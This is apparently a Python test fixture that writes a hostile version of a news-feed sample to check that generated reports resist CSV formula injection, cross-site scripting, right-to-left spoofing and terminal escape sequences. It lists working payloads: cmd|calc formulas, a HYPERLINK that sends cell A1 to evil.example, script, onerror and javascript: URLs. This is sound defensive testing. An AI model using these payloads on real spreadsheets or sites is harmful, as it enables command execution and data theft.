"""A feed written by an adversary: real rows of the bundled sample whose fields carry what a
hostile outlet could put in them, aimed at the spreadsheet and the browser an analyst opens our
reports in (issue #22). The values ride on the 7 events that are complete in
``tests/conftest.py``'s ``small_feed`` (both blocs inside its 36 hours), so they reach the reports.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

# OWASP "CSV injection": a cell starting with one of = + - @ tab CR is run as a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
# Markup in text: each would call alert() if a browser ran it.
MARKUP = [
    '<script>alert("title")</script>',
    '<img src=x onerror=alert("img")>',
    '"\'><svg onload=alert("svg")>',
    '</script><script>alert("json")</script>',
    "<a href=\"javascript:alert('a')\" onclick=\"alert('click')\">x</a>",
    "<iframe srcdoc=\"<script>parent.alert('frame')</script>\"></iframe>",
    '<style>body{background:url("https://evil.example/css")}</style>',
]
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: displays what follows it backwards
# For `detector show`: rich markup that does not parse, an OSC 8 terminal hyperlink, clear screen.
TERMINAL = "[/] \x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b[2J"
URLS = [
    'javascript:alert("url")',
    'data:text/html,<script>alert("data")</script>',
    'https://evil.example/"><script>alert("href")</script>',
    "https://evil.example/?q=<img src=x onerror=alert('q')>",
]
OUTLET = f'=HYPERLINK("http://evil.example","CGTN") <img src=x onerror=alert("outlet")> $\\evil$ {RLO}NTGC'
ID_PREFIXES = ("=", "-")  # ids that themselves start with a formula trigger
REJECTED_ID = "=cmd|' /C calc'!A0"
EVENTS = ("ev26", "ev32", "ev35", "ev40", "ev48", "ev02", "ev04")  # translations first: flagged for sure


def hostile_feed(small_feed: Path, truth: pd.DataFrame, path: Path) -> pd.DataFrame:
    """Write the hostile version of ``small_feed`` to ``path`` (CSV) and return it.

    Per event ``k`` (both articles alike, so they stay one narrative): the title starts with
    ``FORMULAS[k]`` followed by ``MARKUP[k]`` (event 1: and ``TERMINAL``), a right-to-left
    override and the article's own title or opening words. Event 0 keeps an empty title and gets
    the payload at the start of its text instead (a label then comes from the text). The first
    event's cn article is published by ``OUTLET``; urls come from ``URLS``; two ru ids are given
    a leading ``=`` and ``-``; and one more row, with an unreadable timestamp, goes to
    ``rejected.csv``.
    """
    feed = pd.read_csv(small_feed, dtype=str, keep_default_na=False)
    event_of = truth.set_index("id")["event_id"]
    for k, event in enumerate(EVENTS):
        rows = feed.index[feed["id"].map(event_of) == event]
        assert len(rows) == 2, event
        payload = f"{FORMULAS[k]} {MARKUP[k]} {TERMINAL if k == 1 else ''}{RLO}"
        for i in rows:
            own = feed.at[i, "title"] or " ".join(feed.at[i, "text"].split()[:12])
            if k == 0:
                feed.at[i, "text"] = f"{payload} {feed.at[i, 'text']}"
            else:
                feed.at[i, "title"] = f"{payload} {own}"
            feed.at[i, "url"] = URLS[(2 * k + (feed.at[i, "bloc"] == "ru")) % len(URLS)]
            if k == 0 and feed.at[i, "bloc"] == "cn":
                feed.at[i, "outlet"] = OUTLET
            if k < len(ID_PREFIXES) and feed.at[i, "bloc"] == "ru":
                feed.at[i, "id"] = ID_PREFIXES[k] + feed.at[i, "id"]
    bad = feed.iloc[[0]].assign(id=REJECTED_ID, published_at=f"{FORMULAS[0]} {MARKUP[0]}")
    feed = pd.concat([feed, bad], ignore_index=True)
    feed.to_csv(path, index=False, lineterminator="\r\n")
    return feed
